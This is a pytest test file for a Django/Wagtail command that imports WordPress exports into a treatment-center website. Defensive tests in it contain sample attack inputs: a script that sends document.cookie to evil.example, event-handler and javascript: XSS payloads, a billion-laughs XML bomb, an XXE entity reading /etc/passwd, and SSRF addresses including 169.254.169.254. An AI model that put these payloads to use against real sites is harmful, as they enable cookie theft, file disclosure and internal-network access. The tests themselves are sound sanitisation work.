"""`manage.py import_wordpress`: exports we wrote the way WordPress writes them, imported through
the real command into the database, and the result read as a visitor, an editor and the person
who checks the report see it."""

import json
from datetime import UTC, datetime
from io import StringIO
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.core.cache import caches
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from PIL import Image as PILImage
from wagtail.contrib.redirects.models import Redirect
from wagtail.images import get_image_model
from wagtail.models import Page, PageLogEntry, PageViewRestriction, ReferenceIndex

from articles.models import ArticleIndexPage, ArticlePage
from home.models import HomePage
from pagecache import store as page_cache
from pages.models import StandardPage
from programs.models import ProgramIndexPage, ProgramPage
from ratings.models import PageRating
from tests.reading import resources, soup_of, text_of, texts_of
from tests.wordpress_export import SITE, attachment, item, menu_item, write
from wordpress.download import DownloadRefused, fetch
from wordpress.models import ImportedItem

ADMISSIONS = "800-270-4315"  # the demo's admissions number
SOURCE_META = {"_kksr_count_default": "2", "_kksr_ratings_default": "9"}  # a rating

# The seed page as the classic editor stores it: no <p> tags, blank lines between paragraphs, a
# "Need More Information?" box, superscript and bracket markers and a Sources list at the end.
IOP_CLASSIC = f"""Intensive outpatient treatment (IOP) is a valid option for care for anyone \
struggling with a substance use disorder.

<h2>What is an IOP?</h2>
An intensive outpatient program combines the rigor of inpatient care with the flexibility of
living at home.<sup>1</sup>

Components generally include individual therapy and group support.
<div class="cta-box"><h3>Need More Information?</h3>
Call now to be connected with one of our friendly, helpful treatment specialists.
<a href="tel:{ADMISSIONS}">{ADMISSIONS}</a></div>
<h2>Intensive Outpatient Care is Effective</h2>
One study [2], a review of multiple other studies, showed comparable outcomes.

<h3>Sources</h3>
<ol>
 <li>SAMHSA. <a href="https://store.samhsa.gov/tip-47">TIP 47: Clinical Issues in Intensive \
Outpatient Treatment</a></li>
 <li>McCarty D, et al. <a href="https://ps.psychiatryonline.org/doi/10.1176/appi.ps.201300249">\
Substance Abuse Intensive Outpatient Programs: Assessing the Evidence</a></li>
</ol>"""

GUTENBERG = """<!-- wp:paragraph -->
<p>Families often ask how to start a conversation about treatment.
This line break is part of the same paragraph.</p>
<!-- /wp:paragraph -->

<!-- wp:heading -->
<h2 class="wp-block-heading">Choose a calm moment</h2>
<!-- /wp:heading -->

<!-- wp:paragraph -->
<p>Talk when nobody is rushed, and listen more than you speak.</p>
<!-- /wp:paragraph -->

<!-- wp:group {"className":"cta"} -->
<div class="wp-block-group cta"><!-- wp:heading {"level":3} -->
<h3 class="wp-block-heading">Talk to our family team</h3>
<!-- /wp:heading -->
<!-- wp:paragraph -->
<p>We answer questions from families every day. <a href="tel:888-432-7654">888-432-7654</a></p>
<!-- /wp:paragraph --></div>
<!-- /wp:group -->"""


def picture(path, size=(120, 80), mode="RGB", image_format="JPEG"):
    path.parent.mkdir(parents=True, exist_ok=True)
    PILImage.new(mode, size, "white").save(path, image_format)
    return path


def run_import(tmp_path, *items, args=(), title="Transformations Treatment Center", site=SITE):
    """The command run on an export of `items`; (the JSON report, what it printed)."""
    export = write(tmp_path / "export.xml", *items, title=title, site=site)
    report_file = tmp_path / "report.json"
    out = StringIO()
    call_command("import_wordpress", str(export), "--report", str(report_file), *args, stdout=out)
    return json.loads(report_file.read_text()), out.getvalue()


def body_types(page):
    return [block.block_type for block in page.body]


def demo_pages():
    return Page.objects.count(), ProgramPage.objects.count(), Redirect.objects.count()


# The client's page, moved in --------------------------------------------------------------


def iop_export_items():
    return [
        item(10, "Programs", slug="programs", content="Levels of care we offer."),
        item(
            12,
            "Intensive Outpatient",
            slug="intensive-outpatient",
            parent=10,
            content=IOP_CLASSIC,
            meta={
                "_yoast_wpseo_title": "%%title%% %%sep%% %%sitename%%",
                "_yoast_wpseo_metadesc": "What an IOP is and who it helps.",
                # kk Star Ratings 5.x, with the stale legacy keys it leaves behind.
                "_kksr_count_default": "3",
                "_kksr_ratings_default": "14",
                "_kksr_casts": "1",
                "_kksr_ratings": "5",
                "_kksr_ips": "203.0.113.9",
            },
        ),
    ]


@pytest.mark.django_db
def test_classic_program_page_updates_the_demo_page_in_place(demo, tmp_path, client):
    pages_before = Page.objects.count()
    report, printed = run_import(
        tmp_path, *iop_export_items(), args=["--program-parent", "programs"]
    )

    assert Page.objects.count() == pages_before  # the demo's /programs/ pages adopted
    iop = ProgramPage.objects.get(pk=demo.iop.pk)
    assert iop.url_path.endswith("/programs/intensive-outpatient/")
    assert iop.intro.startswith("Intensive outpatient treatment (IOP) is a valid option")
    assert body_types(iop) == ["benefit_section", "call_to_action", "benefit_section"]
    first, cta, second = iop.body
    assert first.value["heading"] == "What is an IOP?"
    text = first.value["text"].source
    assert text.count("<p ") == 2  # paragraphs made the way WordPress makes them
    assert "Components generally include" in text
    assert "Need More Information" not in text and ADMISSIONS not in text
    assert cta.value["heading"] == "Need More Information?"
    assert cta.value["text"].startswith("Call now to be connected")
    assert cta.value["show_phone"] is True
    assert cta.value["phone"] == ""  # the admissions number: the site setting is used

    citations = list(iop.citations.order_by("sort_order"))
    assert [(c.source, c.url) for c in citations] == [
        ("SAMHSA", "https://store.samhsa.gov/tip-47"),
        ("McCarty D, et al", "https://ps.psychiatryonline.org/doi/10.1176/appi.ps.201300249"),
    ]
    assert citations[0].title == "TIP 47: Clinical Issues in Intensive Outpatient Treatment"
    assert f'<citation id="{citations[0].uuid}">' in text
    assert f'One study<citation id="{citations[1].uuid}">' in second.value["text"].source
    assert "Sources" not in second.value["text"].source

    assert iop.seo_title == "Intensive Outpatient – Transformations Treatment Center"
    assert iop.search_description == "What an IOP is and who it helps."
    rating = PageRating.objects.get(page=iop)
    assert (rating.votes, rating.total) == (3, 14)  # the 5.x keys, not the stale legacy ones
    assert iop.first_published_at == datetime(2019, 3, 4, 14, 15, tzinfo=UTC)
    assert iop.last_published_at == datetime(2020, 5, 6, 10, 0, tzinfo=UTC)
    assert iop.revisions.count() >= 1 and iop.live

    html = client.get("/programs/intensive-outpatient/").content.decode()
    assert "What is an IOP?" in html
    assert "TIP 47: Clinical Issues in Intensive Outpatient Treatment" in html
    assert "3 votes" in html or "3 ratings" in html
    assert "Sources</h3>" not in html.split("<main", 1)[1].split("Sources", 1)[0]

    assert report["done"]["updated"] == {"program (publish)": 1}
    assert report["ratings_imported"] == 1
    assert "Pages updated: 1 program (publish)" in printed


@pytest.mark.django_db
def test_a_new_site_gets_a_home_page_and_the_index_pages(tmp_path, client):
    assert not HomePage.objects.exists()  # only Wagtail's own welcome page
    report, _ = run_import(
        tmp_path,
        *iop_export_items(),
        item(200, "First steps", post_type="post", content="<p>Where to begin.</p>"),
        args=["--program-parent", "programs"],
        title="Harbor Recovery",
    )
    home = HomePage.objects.get()
    assert home.title == "Harbor Recovery"
    assert home.get_site().root_page_id == home.pk
    programs = ProgramIndexPage.objects.child_of(home).get()
    assert programs.slug == "programs" and programs.intro
    assert ProgramPage.objects.child_of(programs).get().slug == "intensive-outpatient"
    articles = ArticleIndexPage.objects.child_of(home).get()
    assert ArticlePage.objects.child_of(articles).get().slug == "first-steps"
    assert client.get("/programs/intensive-outpatient/").status_code == 200
    assert client.get("/articles/first-steps/").status_code == 200
    assert report["done"]["created"]["home page"] == 1


# Gutenberg, shortcodes, articles ------------------------------------------------------------


@pytest.mark.django_db
def test_gutenberg_post_becomes_an_article_with_its_own_cta_number(demo, tmp_path, client):
    report, _ = run_import(
        tmp_path,
        item(
            300,
            "Talking with a loved one",
            post_type="post",
            slug="talking-with-a-loved-one",
            content=GUTENBERG,
            excerpt="How to begin the conversation.",
            date="2021-06-01 08:00:00",
            categories=[
                ("category", "family", "Family"),
                ("category", "uncategorized", "Uncategorized"),
                ("post_tag", "conversation", "conversation"),
            ],
        ),
    )
    article = ArticlePage.objects.get(slug="talking-with-a-loved-one")
    assert article.intro == "How to begin the conversation."
    assert article.date.isoformat() == "2021-06-01"
    assert article.author.name == "Dana Whitfield"
    assert [c.name for c in article.categories.all()] == ["Family"]
    assert body_types(article) == ["text", "benefit_section", "call_to_action"]
    text = article.body[0].value.source
    assert "This line break is part of the same paragraph" in text
    assert "<br" not in text  # no paragraphs invented for Gutenberg content
    cta = article.body[2].value
    assert cta["heading"] == "Talk to our family team"
    assert cta["phone"] == "888-432-7654"  # not the admissions number: kept
    assert "family team" not in article.body[1].value["text"].source
    assert report["tags_not_imported"] == {"conversation": 1}
    html = client.get(article.url).content.decode()
    assert 'href="tel:+18884327654"' in html


@pytest.mark.django_db
def test_shortcodes_become_blocks_or_go_and_are_listed(demo, tmp_path, client):
    picture(tmp_path / "uploads/2020/01/team.jpg")
    content = (
        '[caption id="attachment_50" align="aligncenter" width="300"]<img class="wp-image-50" '
        'src="https://transformations.example/wp-content/uploads/2020/01/team-300x200.jpg" '
        'alt="" /> Our admissions team[/caption]\n\n'
        "Our team answers every call.\n\n"
        '[contact-form-7 id="5" title="Contact form 1"]\n\n'
        "[fancy_divider]\n\n"
        '[cta heading="Ready to talk?" phone="800-270-4315"]Someone is here to listen.[/cta]\n\n'
        "[kkstarratings]"
    )
    report, printed = run_import(
        tmp_path,
        attachment(50, "2020/01/team.jpg", alt="Three members of the admissions team"),
        item(60, "About us", slug="about-us", content=content),
        args=["--uploads", str(tmp_path / "uploads")],
    )
    page = StandardPage.objects.get(slug="about-us")
    assert body_types(page) == ["image", "text", "call_to_action"]
    image_block, text_block, cta = page.body
    assert image_block.value.contextual_alt_text == "Three members of the admissions team"
    assert image_block.value.title == "team"
    assert "Our admissions team" in text_block.value.source  # the caption kept
    assert cta.value["heading"] == "Ready to talk?"
    assert cta.value["text"] == "Someone is here to listen."
    # The rating shortcode goes too: the page's own rating widget shows the imported votes.
    assert report["shortcodes_removed"] == {
        "contact-form-7": 1,
        "fancy_divider": 1,
        "kkstarratings": 1,
    }
    assert "[contact-form-7] ×1" in printed and "[fancy_divider] ×1" in printed
    main = client.get("/about-us/").content.decode().split("<main", 1)[1]
    assert "[" not in main.split("</main>")[0].replace("[cite]", "")


# The tree, addresses and statuses ---------------------------------------------------------------


@pytest.mark.django_db
def test_the_page_tree_is_rebuilt_when_children_come_first(demo, tmp_path, client):
    report, _ = run_import(
        tmp_path,
        # (Not /about/: the demo's About page, with the credentials, stands there.)
        item(32, "Dana", slug="dana", parent=31, link=f"{SITE}/who-we-are/team/dana/"),
        item(31, "Our team", slug="team", parent=30, link=f"{SITE}/who-we-are/team/"),
        item(30, "Who we are", slug="who-we-are"),
        item(33, "Über uns 🌱 Familie", slug="%c3%bcber-uns", link=f"{SITE}/%C3%BCber-uns/"),
        item(34, "Contact", slug="contact", content="<p>Write to us.</p>"),
    )
    dana = StandardPage.objects.get(slug="dana")
    assert dana.url_path.endswith("/who-we-are/team/dana/")
    assert client.get("/who-we-are/team/dana/").status_code == 200
    german = StandardPage.objects.get(title="Über uns 🌱 Familie")
    assert german.slug == "über-uns"
    assert client.get("/%C3%BCber-uns/").status_code == 200
    # The demo's contact form stands at /contact/: the imported page moves aside, reported.
    moved = StandardPage.objects.get(title="Contact")
    assert moved.slug == "contact-2"
    # /contact/ stays the demo's contact form: no redirect is made (or reported) from there.
    assert "/contact/" not in {r["from"] for r in report["redirects"]}
    assert "Write to us." not in client.get("/contact/").content.decode()
    assert report["slugs_changed"] == [
        {
            "id": 34,
            "title": "Contact",
            "from": "contact",
            "to": "contact-2",
            "why": "“Contact us” already has that address here",
        }
    ]


@pytest.mark.django_db
def test_statuses_and_dates_as_wordpress_had_them(demo, tmp_path, client):
    never = {"date": "0000-00-00 00:00:00", "date_gmt": "0000-00-00 00:00:00"}
    report, _ = run_import(
        tmp_path,
        item(40, "Draft page", slug="draft-page", status="draft", **never),
        item(41, "Pending page", slug="pending-page", status="pending", **never),
        item(
            42,
            "Coming soon",
            post_type="post",
            slug="coming-soon",
            status="future",
            date="2031-01-05 09:00:00",
            date_gmt="2031-01-05 14:00:00",
        ),
        item(43, "Staff handbook", slug="staff-handbook", status="private"),
        item(44, "Old page", slug="old-page", status="trash"),
    )
    for slug in ("draft-page", "pending-page"):
        page = StandardPage.objects.get(slug=slug)
        assert not page.live and page.first_published_at is None
        assert page.revisions.count() == 1
    soon = ArticlePage.objects.get(slug="coming-soon")
    assert not soon.live
    assert soon.go_live_at == datetime(2031, 1, 5, 14, 0, tzinfo=UTC)
    assert soon.scheduled_revision is not None
    private = StandardPage.objects.get(slug="staff-handbook")
    assert private.live
    assert PageViewRestriction.objects.filter(
        page=private, restriction_type=PageViewRestriction.LOGIN
    ).exists()
    response = client.get("/staff-handbook/")
    assert response.status_code == 302 and "login" in response["Location"]
    assert not StandardPage.objects.filter(slug="old-page").exists()
    assert [(n["id"], n["why"].split(" (")[0]) for n in report["not_mapped"]] == [
        (44, "status “trash”")
    ]


@pytest.mark.django_db
def test_old_addresses_answer_301_to_the_new_pages(demo, tmp_path, client):
    report, _ = run_import(
        tmp_path,
        *iop_export_items(),
        item(
            100,
            "Signs of relapse",
            post_type="post",
            slug="signs-of-relapse",
            meta={"_wp_old_slug": "relapse-signs"},
        ),
        item(101, "Paying for care", slug="paying-for-care"),
        args=["--program-parent", "programs"],
    )
    article = ArticlePage.objects.get(slug="signs-of-relapse")
    for old in (
        "/2019/03/signs-of-relapse/",
        "/2019/03/relapse-signs/",
        "/?p=100",
        "/?page_id=12",
    ):
        response = client.get(old)
        assert response.status_code == 301, old
    assert client.get("/2019/03/signs-of-relapse/")["Location"] == "/articles/signs-of-relapse/"
    assert client.get("/?p=100")["Location"] == article.url
    assert client.get("/?page_id=12")["Location"] == "/programs/intensive-outpatient/"
    assert client.get("/?p=999").status_code == 200  # no such post: the home page, as before
    # An address that stays the same needs no redirect.
    olds = {r["from"] for r in report["redirects"]}
    assert "/paying-for-care/" not in olds and "/programs/intensive-outpatient/" not in olds
    assert "/2019/03/signs-of-relapse/" in olds


@pytest.mark.django_db
def test_menus_become_show_in_menus(demo, tmp_path):
    run_import(
        tmp_path,
        item(70, "Paying for care", slug="paying-for-care"),
        item(71, "Careers", slug="careers"),
        menu_item(900, 70),
    )
    assert StandardPage.objects.get(slug="paying-for-care").show_in_menus is True
    assert StandardPage.objects.get(slug="careers").show_in_menus is False


# Images, documents and links ---------------------------------------------------------------


@pytest.mark.django_db
def test_images_once_each_resized_copies_mapped_and_bad_files_reported(demo, tmp_path):
    uploads = tmp_path / "uploads"
    picture(uploads / "2018/07/group.jpg")
    (uploads / "2018/07/broken.jpg").write_bytes(b"this is not a picture")
    picture(uploads / "2018/07/huge.png", size=(8000, 6000), mode="1", image_format="PNG")
    (uploads / "2018/07/guide.pdf").write_bytes(b"%PDF-1.4 a small guide\n%%EOF\n")
    src = f"{SITE}/wp-content/uploads/2018/07"
    content = (
        f'<p>Groups meet each morning.</p><img src="{src}/group-1024x683.jpg" alt="" />'
        f'<p>Read <a href="{src}/guide.pdf">our guide</a> and '
        f'<a href="{SITE}/paying-for-care/">paying for care</a>.</p>'
        f'<img src="{src}/broken.jpg" alt="x" /><img src="{src}/huge.png" alt="y" />'
        f'<img src="{src}/gone.jpg" alt="z" />'
    )
    args = ["--uploads", str(uploads)]
    items = [
        attachment(80, "2018/07/group.jpg", alt="A therapy group in a circle"),
        attachment(81, "2018/07/broken.jpg"),
        attachment(82, "2018/07/huge.png"),
        attachment(83, "2018/07/guide.pdf"),
        attachment(84, "2018/07/gone.jpg"),
        item(85, "Groups", slug="groups", content=content, meta={"_thumbnail_id": "80"}),
        item(86, "Paying for care", slug="paying-for-care"),
    ]
    images_before = get_image_model().objects.count()
    report, _ = run_import(tmp_path, *items, args=args)
    assert get_image_model().objects.count() == images_before + 1
    page = StandardPage.objects.get(slug="groups")
    images = [b.value for b in page.body if b.block_type == "image"]
    assert len(images) == 1  # the featured image is the inline one: not shown twice
    assert images[0].pk == ImportedItem.objects.get(kind="image", wp_id=80).object_id
    assert images[0].contextual_alt_text == "A therapy group in a circle"
    text = next(b.value.source for b in page.body if b.block_type == "text")
    paying = StandardPage.objects.get(slug="paying-for-care")
    assert f'<a linktype="page" id="{paying.pk}">paying for care</a>' in text
    document_id = ImportedItem.objects.get(kind="document", wp_id=83).object_id
    assert f'<a linktype="document" id="{document_id}">our guide</a>' in text
    missing = {m["id"]: m["why"] for m in report["images_missing"] if m["id"] in (81, 82, 84)}
    assert "not a picture Pillow can read" in missing[81]
    assert "too many pixels" in missing[82] or "too large" in missing[82]
    assert "no file 2018/07/gone.jpg" in missing[84]
    assert report["images"] == {"created": 1}

    # The same import again: nothing new.
    counts = (get_image_model().objects.count(), Page.objects.count(), Redirect.objects.count())
    again, _ = run_import(tmp_path, *items, args=args)
    assert counts == (
        get_image_model().objects.count(),
        Page.objects.count(),
        Redirect.objects.count(),
    )
    assert again["images"] == {"reused": 1} and again["documents"] == {"reused": 1}
    assert again["done"] == {"unchanged": {"standard (publish)": 2}}


# Hostile input ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_formatting_left_open_keeps_every_word_and_the_next_items(demo, tmp_path, client):
    # Classic-editor posts often leave a <b> or <i> open; it must not stop the import.
    broken = (
        "<p>Recovery is <b>possible <i>for everyone</p>\n\nCall us <em>today</em>.\n\n"
        "<h2>What to expect</h2>\n<p>A <strong>warm <em>welcome</p><p>and a plan.</p>"
    )
    report, _ = run_import(
        tmp_path,
        item(9001, "Left open", slug="left-open", post_type="post", content=broken),
        item(9002, "Fine post", slug="fine-post", post_type="post", content="<p>All good.</p>"),
    )
    assert report["done"]["created"] == {"article (publish)": 2}
    text = text_of(client.get("/articles/left-open/").text)
    for words in ("Recovery is possible for everyone", "Call us today", "A warm welcome",
                  "and a plan"):  # fmt: skip
        assert words in text, words
    assert "What to expect" in texts_of(client.get("/articles/left-open/").text, "h2")
    assert "All good." in text_of(client.get("/articles/fine-post/").text)


def test_hostile_html_is_dropped_and_counted(demo, tmp_path, client):
    content = (
        "<p>Before.</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        '<p style="color:red" onclick="steal()">Styled <a href="javascript:alert(1)">link</a></p>'
        '<iframe src="https://tracker.example/embed"></iframe>'
        '<form action="https://evil.example/"><input name="q"></form>'
        '<img src="x" onerror="alert(1)" alt="">'
        '<p>A picture from elsewhere: <img src="https://tracker.example/pixel.gif" alt="x"></p>'
        "<style>body{display:none}</style><p>After.</p>"
    )
    report, _ = run_import(tmp_path, item(90, "Hostile", slug="hostile", content=content))
    html = client.get("/hostile/").content.decode()
    main = html.split("<main", 1)[1].split("</main>", 1)[0]
    for bad in ("<script", "evil.example", "tracker.example", "onclick", "onerror",
                "javascript:", "<iframe", "<form", "color:red", "display:none"):  # fmt: skip
        assert bad not in main, bad
    assert "Before." in main and "After." in main and "Styled" in main
    # Nothing imported weakens the Content-Security-Policy or reaches another host.
    soup = soup_of(html)
    assert all(
        s.get("type") == "application/ld+json" or s.get("src", "").startswith("/static/")
        for s in soup.find_all("script")
    )
    assert not soup.find_all(style=True) and not soup.find_all("style")
    assert [(e.name, a) for e in soup.find_all(True) for a in e.attrs if a.startswith("on")] == []
    assert [url for url in resources(soup) if urlsplit(url).netloc] == []
    assert any("tracker.example/pixel.gif" in m["url"] for m in report["images_missing"])
    removed = report["elements_removed"]
    assert removed["<script>"] == 1 and removed["<iframe>"] == 1 and removed["<form>"] == 1
    assert removed["event handler attributes"] == 2 and removed["javascript: URLs"] == 1
    assert removed["inline styles"] == 1 and removed["<style>"] == 1


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&secret;</title>
<wp:wxr_version>1.2</wp:wxr_version></channel></rss>
"""


@pytest.mark.parametrize(
    "name, text, says",
    [
        ("empty.xml", "", "is empty"),
        ("export.json", '{"posts": []}', "is JSON"),
        ("page.html", "<!DOCTYPE html><html><body>Export</body></html>", "is an HTML page"),
        (
            "feed.xml",
            '<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>',
            "is an RSS feed",
        ),  # fmt: skip
        ("laughs.xml", BILLION_LAUGHS, "declares a DTD or XML entities"),
        ("xxe.xml", XXE, "declares a DTD or XML entities"),
        ("other.xml", '<?xml version="1.0"?><svg></svg>', "its root element is <svg>"),
        ("notes.txt", "My WordPress notes", "is not XML"),
    ],
)
@pytest.mark.django_db
def test_not_an_export_says_so_in_one_line_and_writes_nothing(demo, tmp_path, name, text, says):
    path = tmp_path / name
    path.write_text(text)
    before = demo_pages()
    err = StringIO()
    with pytest.raises(SystemExit) as exit_:
        call_command("import_wordpress", str(path), stdout=StringIO(), stderr=err)
    assert exit_.value.code == 2
    lines = err.getvalue().strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Not imported: ") and says in lines[0]
    assert demo_pages() == before
    assert not ImportedItem.objects.exists()


@pytest.mark.django_db
def test_a_truncated_export_writes_nothing(demo, tmp_path):
    whole = write(tmp_path / "whole.xml", *iop_export_items()).read_text()
    path = tmp_path / "truncated.xml"
    path.write_text(whole[: len(whole) * 2 // 3])
    before = demo_pages()
    err = StringIO()
    with pytest.raises(SystemExit) as exit_:
        call_command("import_wordpress", str(path), stdout=StringIO(), stderr=err)
    assert exit_.value.code == 2
    assert "not well-formed XML" in err.getvalue() and "export the site again" in err.getvalue()
    assert demo_pages() == before


@pytest.mark.django_db
def test_a_failure_in_the_middle_leaves_the_site_as_it_was(demo, tmp_path, monkeypatch):
    from wordpress import importer

    picture(tmp_path / "uploads/2020/01/team.jpg")
    items = [
        attachment(50, "2020/01/team.jpg", alt="The team"),
        item(61, "Careers", slug="careers"),
        item(62, "Volunteering", slug="volunteering"),
    ]
    original = importer.Importer.fill

    def fail_on_second(self, item_, entry, converted):
        if item_.wp_id == 62:
            raise RuntimeError("the disk filled up")
        return original(self, item_, entry, converted)

    monkeypatch.setattr(importer.Importer, "fill", fail_on_second)
    before = (*demo_pages(), get_image_model().objects.count())
    with pytest.raises(RuntimeError):
        run_import(tmp_path, *items, args=["--uploads", str(tmp_path / "uploads")])
    assert (*demo_pages(), get_image_model().objects.count()) == before
    assert not StandardPage.objects.filter(slug="careers").exists()
    media = [p for p in (tmp_path.parent).rglob("team*.jpg") if "uploads" not in str(p)]
    assert media == []  # the image file written for it was deleted too


# Ratings ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_both_kk_star_ratings_layouts(demo, tmp_path):
    run_import(
        tmp_path,
        item(110, "Legacy", slug="legacy", meta={"_kksr_casts": "4", "_kksr_ratings": "18"}),
        item(
            111,
            "Average only",
            slug="average-only",
            meta={"_kksr_count_default": "2", "_kksr_avg_default": "4.5"},
        ),  # fmt: skip
        item(
            112,
            "Impossible",
            slug="impossible",
            meta={"_kksr_count_default": "2", "_kksr_ratings_default": "40"},
        ),  # fmt: skip
    )
    totals = {r.page.slug: (r.votes, r.total) for r in PageRating.objects.select_related("page")}
    assert totals["legacy"] == (4, 18)
    assert totals["average-only"] == (2, 9)
    assert "impossible" not in totals


# Again and again ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_rerun_updates_what_changed_there_and_keeps_what_changed_here(demo, tmp_path):
    first = [
        item(120, "Careers", slug="careers", content="<p>We are hiring.</p>"),
        item(121, "Volunteering", slug="volunteering", content="<p>Join us.</p>"),
        item(122, "Alumni", slug="alumni", content="<p>Stay in touch.</p>"),
    ]
    run_import(tmp_path, *first)
    # An editor changes one page here.
    volunteering = StandardPage.objects.get(slug="volunteering")
    volunteering.intro = "Edited by our editor."
    volunteering.save_revision().publish()
    # WordPress changes two pages there.
    second = [
        item(
            120,
            "Careers",
            slug="careers",
            content="<p>We are hiring nurses.</p>",
            modified_gmt="2021-01-01 00:00:00",
        ),  # fmt: skip
        item(
            121,
            "Volunteering",
            slug="volunteering",
            content="<p>Join us today.</p>",
            modified_gmt="2021-01-01 00:00:00",
        ),  # fmt: skip
        first[2],
    ]
    pages_before = Page.objects.count()
    report, printed = run_import(tmp_path, *second)
    assert Page.objects.count() == pages_before
    careers = StandardPage.objects.get(slug="careers")
    assert "We are hiring nurses." in careers.intro + str(careers.body)
    assert careers.revisions.count() == 2
    volunteering.refresh_from_db()
    assert volunteering.intro == "Edited by our editor."
    assert report["done"] == {
        "updated": {"standard (publish)": 1},
        "kept": {"standard (publish)": 1},
        "unchanged": {"standard (publish)": 1},
    }
    assert any(
        p["id"] == 121 and "changed here since the last import" in p["problem"]
        for p in report["problems"]
    )
    assert "kept as edited here" in printed


# Dry run and downloads -------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_dry_run_reports_and_writes_nothing(demo, tmp_path):
    picture(tmp_path / "uploads/2020/01/team.jpg")
    before = (*demo_pages(), get_image_model().objects.count(), PageRating.objects.count())
    report, printed = run_import(
        tmp_path,
        *iop_export_items(),
        attachment(50, "2020/01/team.jpg", alt="The team"),
        item(200, "First steps", post_type="post", content="<p>Where to begin.</p>"),
        args=["--program-parent", "programs", "--dry-run", "--uploads", str(tmp_path / "uploads")],
    )
    after = (*demo_pages(), get_image_model().objects.count(), PageRating.objects.count())
    assert after == before and not ImportedItem.objects.exists()
    assert report["dry_run"] is True
    assert report["done"] == {"would import": {"program (publish)": 1, "article (publish)": 1}}
    assert printed.startswith("Dry run (nothing written)")


def test_downloads_only_from_the_sites_own_public_addresses():
    hosts = {"transformations.example"}
    refusals = {
        "file:///etc/passwd": "is not an http\\(s\\) address",
        "ftp://transformations.example/a.jpg": "is not an http\\(s\\) address",
        "https://elsewhere.example/a.jpg": "not the export's own site",
    }
    for url, says in refusals.items():
        with pytest.raises(DownloadRefused, match=says):
            fetch(url, hosts)
    for url in ("http://localhost/a.jpg", "http://127.0.0.1/a.jpg", "http://[::1]/a.jpg"):
        with pytest.raises(DownloadRefused, match="private, loopback or link-local"):
            fetch(url, {"localhost", "127.0.0.1", "::1"})
    with pytest.raises(DownloadRefused, match="private, loopback or link-local"):
        fetch("http://169.254.169.254/latest/meta-data", {"169.254.169.254"})


@pytest.mark.django_db
def test_download_refusals_are_reported_and_the_import_goes_on(demo, tmp_path):
    report, _ = run_import(
        tmp_path,
        attachment(50, "2020/01/team.jpg", alt="The team", site="http://localhost"),
        item(61, "Careers", slug="careers", link="http://localhost/careers/"),
        args=["--download"],
        site="http://localhost",
    )
    assert StandardPage.objects.filter(slug="careers").exists()
    assert [m["id"] for m in report["images_missing"]] == [50]
    assert "private, loopback or link-local" in report["images_missing"][0]["why"]


@pytest.mark.django_db
def test_bad_options_are_clear_errors(demo, tmp_path):
    export = write(tmp_path / "export.xml", *iop_export_items())
    with pytest.raises(CommandError, match="no such folder"):
        call_command("import_wordpress", str(export), "--uploads", str(tmp_path / "nope"))
    with pytest.raises(CommandError, match="the export has no page with that slug"):
        call_command("import_wordpress", str(export), "--program-parent", "levels-of-care")
    assert not ImportedItem.objects.exists()


# As Wagtail makes pages ----------------------------------------------------------------------


def page_state(page):
    """What Wagtail's own add_child, save_revision() and publish() leave on a page."""
    page = Page.objects.get(pk=page.pk)
    parent = page.get_parent()
    return {
        "depth": page.depth - parent.depth,
        "url_path": page.url_path.removeprefix(parent.url_path),
        "locale": page.locale_id == parent.locale_id,
        "live": page.live,
        "expired": page.expired,
        "has_unpublished_changes": page.has_unpublished_changes,
        "draft_title": page.draft_title == page.title,
        "live_revision": page.live_revision_id == page.latest_revision_id is not None,
        "revision_time": page.latest_revision_created_at == page.latest_revision.created_at,
        "revision_object": page.latest_revision.object_id == str(page.pk),
        "revision_title": page.latest_revision.content["title"] == page.title,
        "published": page.first_published_at is not None and page.last_published_at is not None,
        "log": list(
            PageLogEntry.objects.filter(page=page)
            .order_by("timestamp", "pk")
            .values_list("action", flat=True)
        ),
        "log_entries": [
            (
                e.content_type_id == page.content_type_id,
                e.label == page.title,
                e.content_changed,
                e.revision_id is not None,
                e.user_id,
                e.data.get("title", {}).get("new", page.title) == page.title,
            )
            for e in PageLogEntry.objects.filter(page=page).order_by("timestamp", "pk")
        ],  # fmt: skip
    }


@pytest.mark.django_db
def test_an_imported_page_is_what_wagtail_itself_makes(
    demo, tmp_path, client, django_capture_on_commit_callbacks
):
    items = [
        item(130, "Our approach", slug="our-approach", content="<p>How we work with you.</p>"),
        item(
            131,
            "Family program",
            slug="family-program",
            parent=130,
            link=f"{SITE}/our-approach/family-program/",
            content=f'<p>Part of <a href="{SITE}/our-approach/">our approach</a>.</p>',
        ),
        item(132, "Hope after relapse", post_type="post", content="<p>Relapse is common.</p>"),
    ]
    cache = caches[settings.PAGE_CACHE_ALIAS]
    cache.set(page_cache.GONE_PREFIX + "/our-approach/", 1)  # a page unpublished there once
    generation = cache.get(page_cache.GENERATION_KEY)
    with django_capture_on_commit_callbacks(execute=True):
        run_import(tmp_path, *items)
    # The page cache is told as page_published would tell it.
    assert cache.get(page_cache.GENERATION_KEY) != generation
    assert not page_cache.is_gone("/our-approach/")

    approach = StandardPage.objects.get(slug="our-approach")
    family = StandardPage.objects.get(slug="family-program")
    article = ArticlePage.objects.get(slug="hope-after-relapse")
    # Pages made here after the import, Wagtail's own way, under the same parents.
    made = []
    for parent in (approach, article.get_parent()):
        page = parent.add_child(instance=StandardPage(title="Made here", slug="made-here"))
        page.save_revision(log_action=True).publish()
        made.append(page)

    assert Page.find_problems() == ([], [], [], [], [])  # paths, depths, numchild all agree
    assert Page.objects.get(pk=approach.pk).numchild == 2
    assert family.path < made[0].path and family.path[:-4] == made[0].path[:-4]
    wagtails = page_state(made[0])
